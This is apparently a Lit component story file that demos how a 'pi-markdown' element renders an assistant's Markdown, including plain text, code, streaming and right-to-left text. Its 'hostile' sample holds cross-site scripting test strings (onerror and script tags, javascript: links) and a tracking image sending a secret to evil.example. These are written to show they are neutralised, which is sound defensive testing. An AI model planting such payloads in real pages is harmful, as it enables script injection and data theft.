/**
 * pi-markdown: the assistant's Markdown as the transcript shows it. Not part of the extension-UI bundle: the module
 * defines the element itself (and pi-code-block with it).
 */
// From the sources, as the demo serves every package (not a package export: the tests' types must see one element).
import "@pi-elements/elements/elements/markdown.js";
import { html } from "lit";
import { ref } from "lit/directives/ref.js";
import type { PiMarkdown } from "../../../../packages/elements/src/elements/markdown/markdown.js";
import { type StoryModule, story } from "../story.js";
import type { StoryAgent } from "../story-agent.js";

const plain = `## Summary

The build passes again. I changed **two files** and left a *note* in the third:

1. \`src/lexer.ts\`: the tokenizer no longer drops a trailing newline.
2. \`src/render.ts\`: ~~three~~ two helpers merged into one.

- [x] Run the tests
- [ ] Update the changelog

> Tables in replies scroll sideways when they are wide.

| File | Lines | Status |
|:-----|------:|:------:|
| lexer.ts | 120 | changed |
| render.ts | 88 | changed |

See [the marked docs](https://marked.js.org/) or mail <maintainer@example.com>.`;

const code = `Here is the fix:

\`\`\`ts
export function lex(text: string): Token[] {
  // Normalise line endings before anything else.
  const source = text.replace(/\\r\\n?/g, "\\n");
  return new Lexer({ gfm: true }).lex(source);
}
\`\`\`

And the command to check it:

\`\`\`sh
pnpm test -- --filter lexer
\`\`\``;

const hostile = `Raw HTML shows as text: <img src=x onerror="alert(1)"> and <script>alert(2)</script>.

Links that are not http(s) or mailto stay text: [click](javascript:alert(1)), [encoded](jav&#x09;ascript:alert(1)),
[data](data:text/html,<b>x</b>).

A remote image is a link, never fetched: ![tracking pixel](https://evil.example/pixel.png?secret=42)`;

const rtl = `# مرحبا

هذه فقرة باللغة العربية، مع \`code\` و**نص عريض**.

שלום, זו פסקה בעברית.

日本語の段落です。**太字**と\`コード\`を含みます。

中文段落，包含[链接](https://example.com)。

- عنصر أول
- English item`;

const streamed = `${plain}\n\n${code}`;
const streams = new WeakMap<StoryAgent, PiMarkdown>();

/** Appends the text to the element a few characters at a time, as a model's deltas arrive. */
async function stream(element: PiMarkdown, text: string, chunk: number): Promise<void> {
  element.streaming = true;
  element.text = "";
  for (let end = 0; end < text.length; end += chunk) {
    element.text = text.slice(0, end);
    await new Promise((resolve) => setTimeout(resolve, 16));
  }
  element.text = text;
  element.streaming = false;
}

export const markdownStories: StoryModule = {
  id: "markdown",
  title: "pi-markdown",
  description:
    "The assistant's Markdown, safe by construction: tokens as Lit templates, raw HTML as text, links only http(s)/mailto, images as links, code highlighted lazily.",
  stories: [
    story({
      name: "Plain",
      knobs: { text: { type: "text", value: plain, multiline: true } },
      render: (_context, args) => html`<pi-markdown .text=${args.text}></pi-markdown>`,
    }),
    story({
      name: "Code",
      description: "Code blocks with a language and a copy button; the highlighter loads with the first one.",
      knobs: { text: { type: "text", value: code, multiline: true } },
      render: (_context, args) => html`<pi-markdown .text=${args.text}></pi-markdown>`,
    }),
    story({
      name: "Streaming",
      description: "The text arrives a few characters at a time: open emphasis and fences are repaired as they stream.",
      knobs: { chunk: { type: "number", value: 40, min: 1, max: 400 } },
      render: ({ agent }) =>
        html`<pi-markdown
          ${ref((element) => {
            if (element) streams.set(agent, element as PiMarkdown);
          })}
        ></pi-markdown>`,
      play: async (agent, args) => {
        const element = streams.get(agent);
        if (element) await stream(element, streamed, Math.max(1, args.chunk));
      },
    }),
    story({
      name: "Hostile",
      description: "Model output that tries HTML, script links and a tracking image: nothing is injected or fetched.",
      knobs: {
        text: { type: "text", value: hostile, multiline: true },
        images: { type: "choice", value: "link", options: ["link", "allow"] },
      },
      render: (_context, args) =>
        html`<pi-markdown .text=${args.text} images=${args.images as "link" | "allow"}></pi-markdown>`,
    }),
    story({
      name: "RTL and CJK",
      description: "Each block takes its direction from its own text (dir=auto).",
      knobs: { text: { type: "text", value: rtl, multiline: true } },
      render: (_context, args) => html`<pi-markdown .text=${args.text}></pi-markdown>`,
    }),
  ],
};
